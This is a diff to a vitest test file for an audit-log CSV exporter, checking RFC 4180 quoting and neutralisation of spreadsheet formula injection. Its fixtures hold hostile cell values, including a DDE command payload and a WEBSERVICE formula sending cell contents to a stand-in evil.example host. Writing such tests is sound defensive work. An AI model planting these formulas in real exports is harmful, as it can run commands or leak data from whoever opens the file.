@@ -1,13 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, csvField, guardFormula, toCsv } from '../../lib/audit/csv';
+import { CSV_COLUMNS, csvUnreadableRow, toCsv } from '../../lib/audit/csv';
+import { formulaCells, parseCsv, recoverText } from '../support/csv';
 import { entry } from './fixtures';
 
 describe('CSV export (RFC 4180)', () => {
   it('quotes fields with commas, quotes and line breaks; doubles quotes; CRLF rows', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a,b')).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('a\nb')).toBe('"a\nb"');
     const csv = toCsv([entry()]);
     const lines = csv.split('\r\n');
     expect(lines[0]).toBe(CSV_COLUMNS.join(','));
@@ -17,17 +14,61 @@ describe('CSV export (RFC 4180)', () => {
     expect(
       lines[1]?.startsWith('2026-01-15T09:00:00.000Z,9130350000000001,sandbox,Invoice,129,1032,2025-03-01,300,'),
     ).toBe(true);
+    const { rows, errors } = parseCsv(csv);
+    expect(errors).toEqual([]);
+    expect(rows.map((r) => r.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
   });
 
-  it('guards against formula injection: = + - @ (and tab/CR) get a leading apostrophe', () => {
-    for (const bad of ['=HYPERLINK("x")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
-      expect(guardFormula(bad)).toBe(`'${bad}`);
-    }
-    expect(guardFormula('-120.5')).toBe('-120.5'); // a plain (negative) number stays numeric
-    expect(guardFormula('Acme')).toBe('Acme');
-    const csv = toCsv([entry({ party: "=cmd|' /C calc'!A0", docNumber: '@1', amount: -5 })]);
+  it('guards against formula injection: = + - @ (and tab/CR) at a field’s start get a leading apostrophe', () => {
+    const csv = toCsv([entry({ party: "=cmd|' /C calc'!A0", docNumber: '@1', faultMessage: '+1+2', amount: -5 })]);
     expect(csv).toContain(",'@1,");
     expect(csv).toContain(",'=cmd|' /C calc'!A0,");
+    expect(csv).toContain(",'+1+2,");
     expect(csv).toContain(',-5,');
+  });
+});
+
+describe('CSV export in comma and semicolon locales (issue 18)', () => {
+  const hostile = entry({
+    party: 'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
+    docNumber: 'INV-1;@SUM(A1)',
+    faultMessage: 'Refused\n-1+1',
+    amount: -120.5,
+    preDeleteJson: {
+      Id: '129',
+      PrivateNote: 'x;=1+1',
+      CustomerMemo: { value: 'x,@SUM(A1)' },
+      Line: [{ Amount: -120.5, Description: '\t=1' }],
+    },
+  });
+
+  it('no cell opens a formula whether the spreadsheet splits on `,`, `;` or tab, with or without quotes', () => {
+    expect(formulaCells(toCsv([hostile, entry()]))).toEqual([]);
+  });
+
+  it('the JSON column, memos `x;=1+1` and `x,@SUM(A1)` included, parses back to the record', () => {
+    const { rows, errors } = parseCsv(toCsv([hostile]));
+    expect(errors).toEqual([]);
+    const json = rows[1]![CSV_COLUMNS.indexOf('preDeleteJson')]!;
+    expect(json).toContain(`"x;'=1+1"`);
+    expect(json).toContain(`"x,'@SUM(A1)"`);
+    expect(JSON.parse(recoverText(json))).toEqual(hostile.preDeleteJson);
+    expect(recoverText(rows[1]![CSV_COLUMNS.indexOf('party')]!)).toBe(hostile.party);
+  });
+
+  it('an amount of -120.5 stays a number cell', () => {
+    const { rows } = parseCsv(toCsv([hostile]));
+    expect(rows[1]![CSV_COLUMNS.indexOf('amount')]).toBe('-120.5');
+    expect(toCsv([hostile])).toContain(',-120.5,');
+  });
+
+  it('an unreadable entry’s stored value goes through the same writer', () => {
+    const stored = { uid: 'broken', entry: { party: 'x;=1+1', memo: 'x,@SUM(A1)' } };
+    const line = csvUnreadableRow(stored);
+    expect(formulaCells(line)).toEqual([]);
+    const { rows, errors } = parseCsv(line);
+    expect(errors).toEqual([]);
+    expect(rows[0]![CSV_COLUMNS.indexOf('outcome')]).toBe('unreadable entry');
+    expect(JSON.parse(recoverText(rows[0]![CSV_COLUMNS.indexOf('preDeleteJson')]!))).toEqual(stored);
   });
 });
